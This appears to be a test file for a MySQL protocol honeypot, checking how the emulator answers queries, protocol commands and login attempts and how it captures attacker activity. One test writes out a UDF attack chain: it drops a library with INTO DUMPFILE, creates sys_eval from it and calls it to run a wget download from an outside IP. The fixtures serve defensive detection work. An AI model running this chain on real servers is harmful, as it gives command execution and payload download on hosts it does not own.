import assert from 'node:assert/strict';
import { test } from 'node:test';
import { play } from '../play.ts';
import { nativeScramble } from './auth.ts';
import { CLIENT, FULL_PACKET } from './codec.ts';
import { COM } from './commands.ts';
import { mysql } from './service.ts';
import { command, DEFAULT_FLAGS, events, fixture, frame, lastPacket, loggedIn, personaOf, shown } from './testing.ts';

test('a query is recorded and answered', () => {
  const conversation = loggedIn();
  assert.deepEqual(shown(command(conversation, COM.query, 'select @@version, user(), 1+1, null')), [
    '5.7.44\troot@192.0.2.7\t2\tNULL',
  ]);
  assert.deepEqual(events(conversation, 'query'), [{ statement: 'select @@version, user(), 1+1, null' }]);
});

test('a client of DEPRECATE_EOF gets one packet less, with an OK at the end', () => {
  const plain = command(loggedIn(), COM.query, 'select 1');
  const modern = command(loggedIn({}, DEFAULT_FLAGS | CLIENT.deprecateEof), COM.query, 'select 1');
  assert.equal(plain.length, 5);
  assert.equal(modern.length, 4);
  assert.deepEqual(plain.at(-1), Buffer.from([0xfe, 0, 0, 2, 0]));
  assert.deepEqual(modern.at(-1), Buffer.from([0xfe, 0, 0, 2, 0, 0, 0]));
});

test('commands that every client sends are answered', () => {
  const conversation = loggedIn();
  assert.deepEqual(shown(command(conversation, COM.ping)), ['OK 0']);
  assert.deepEqual(shown(command(conversation, COM.initDb, 'mysql')), ['OK 0']);
  assert.deepEqual(shown(command(conversation, COM.initDb, 'nowhere')), ["1049 42000Unknown database 'nowhere'"]);
  assert.match(command(conversation, COM.statistics)[0]?.toString('latin1') ?? '', /^Uptime: \d+ {2}Threads: 2 /);
  assert.equal(command(conversation, COM.fieldList, 'user\0').length, 8);
  assert.deepEqual(shown(command(conversation, 99)), ['1047 08S01Unknown command']);
  conversation.push(frame(Buffer.from([COM.quit]), 0));
  assert.equal(conversation.closed, 'peer_closed');
});

test('several statements are answered in turn, each telling whether another follows', () => {
  const conversation = loggedIn();
  const packets = command(conversation, COM.query, 'select 1; set names utf8; select 2');
  assert.deepEqual(packets[4], Buffer.from([0xfe, 0, 0, 0x0a, 0]));
  assert.deepEqual(packets[5], Buffer.from([0, 0, 0, 0x0a, 0, 0, 0]));
  assert.deepEqual(packets.at(-1), Buffer.from([0xfe, 0, 0, 2, 0]));
  const single = loggedIn({}, DEFAULT_FLAGS & ~CLIENT.multiStatements);
  assert.match(shown(command(single, COM.query, 'select 1; select 2'))[0] ?? '', /^1064 .*near 'select 2' at line 1$/);
});

test('a library dropped with INTO DUMPFILE is captured, and its function records what it is given', () => {
  const conversation = loggedIn();
  const query = (text: string): string[] => shown(command(conversation, COM.query, text));
  assert.deepEqual(query("select 0x7f454c4600ff into dumpfile '/usr/lib/mysql/plugin/a.so'"), ['OK 1']);
  assert.deepEqual(query("create function sys_eval returns string soname 'b.so'"), [
    "1126 HY000Can't open shared library 'b.so' (errno: 2 No such file or directory)",
  ]);
  assert.deepEqual(query("create function sys_eval returns string soname 'a.so'"), ['OK 0']);
  query("select sys_eval('wget http://198.51.100.9/x')");
  const [artifact] = [...conversation.artifacts.values()];
  assert.deepEqual(artifact, Buffer.from('7f454c4600ff', 'hex'));
  assert.equal(events(conversation, 'file.captured')[0]?.name, '/usr/lib/mysql/plugin/a.so');
  assert.equal(events(conversation, 'command.input')[0]?.command, 'wget http://198.51.100.9/x');
  assert.deepEqual(events(conversation, 'file.requested')[0]?.urls, ['http://198.51.100.9/x']);
});

test('files are captured too where the server seems to refuse them', () => {
  const conversation = loggedIn({ fileWrites: false });
  const answer = shown(command(conversation, COM.query, "select 'x' into outfile '/tmp/a'"));
  assert.match(answer[0] ?? '', /^1290 HY000The MySQL server is running with the --secure-file-priv option/);
  assert.deepEqual([...conversation.artifacts.values()], [Buffer.from('x\n')]);
});

test('a prepared statement is described, executed with its parameters, and closed', () => {
  const conversation = loggedIn();
  const [head] = command(conversation, COM.prepare, 'select ? as a, user from mysql.user where user = ?');
  assert.equal(head?.readUInt16LE(5), 2);
  assert.equal(head?.readUInt16LE(7), 2);
  const id = head?.readUInt32LE(1) ?? 0;
  const body = Buffer.from([id, 0, 0, 0, 0, 1, 0, 0, 0, 0, 1, 3, 0, 253, 0, 42, 0, 0, 0, 4, ...Buffer.from('root')]);
  const packets = command(conversation, COM.execute, body);
  assert.deepEqual(packets.at(-2), Buffer.from([0, 0, 42, 0, 0, 0, 0, 0, 0, 0, 4, ...Buffer.from('root')]));
  const executed = events(conversation, 'query')[1];
  assert.deepEqual(executed?.detail, { command: 'COM_STMT_EXECUTE', parameters: ['42', 'root'] });
  assert.deepEqual(command(conversation, COM.closeStatement, Buffer.from([id, 0, 0, 0])), []);
  assert.match(shown(command(conversation, COM.execute, body))[0] ?? '', /^1243 /);
});

test('COM_CHANGE_USER is another login attempt, and its refusal ends the connection', () => {
  const conversation = loggedIn({ lure: { accept: 'list', logins: [{ username: 'root', password: 'right' }] } });
  assert.equal(conversation.closed, 'service_closed');
  const accepted = loggedIn({ lure: { accept: 'always' } });
  const body = Buffer.concat([
    Buffer.from('eve\0'),
    Buffer.from([0]),
    Buffer.from('\0'),
    Buffer.from([45, 0]),
    Buffer.from('mysql_native_password\0'),
  ]);
  const [request] = command(accepted, COM.changeUser, body);
  const salt = request?.subarray(-21, -1) ?? Buffer.alloc(0);
  accepted.push(frame(nativeScramble('pw', salt), 2));
  assert.equal(lastPacket(accepted).sequence, 3);
  assert.equal(events(accepted, 'auth.attempt')[1]?.username, 'eve');
  assert.deepEqual(shown(command(accepted, COM.query, 'select user()')), ['eve@192.0.2.7']);
});

test('a compressed session is read and answered', () => {
  const played = play(mysql, [fixture('mariadb-compressed')], {
    persona: personaOf('5.7.44'),
    options: { lure: { accept: 'always' } },
  });
  const statements = played.events.filter((event) => event.type === 'query').map((event) => event.fields.statement);
  assert.deepEqual(statements, ['select 1', 'show variables']);
  assert.equal(played.closed, 'peer_closed');
});

test('a statement longer than an event holds is kept whole as an artifact', () => {
  const conversation = loggedIn();
  const statement = `select '${'x'.repeat(100_000)}'`;
  command(conversation, COM.query, statement);
  assert.equal(events(conversation, 'limit.reached')[0]?.limit, 'statement_bytes');
  assert.equal([...conversation.artifacts.values()][0]?.length, statement.length);
});

test('a command over the limit is refused as over max_allowed_packet', () => {
  const conversation = loggedIn({ maxPacketBytes: 16_384 });
  const header = Buffer.alloc(4);
  header.writeUIntLE(FULL_PACKET - 1, 0, 3);
  conversation.push(header);
  assert.equal(conversation.closed, 'limit');
  assert.match(lastPacket(conversation).payload.toString('latin1'), /max_allowed_packet/);
});
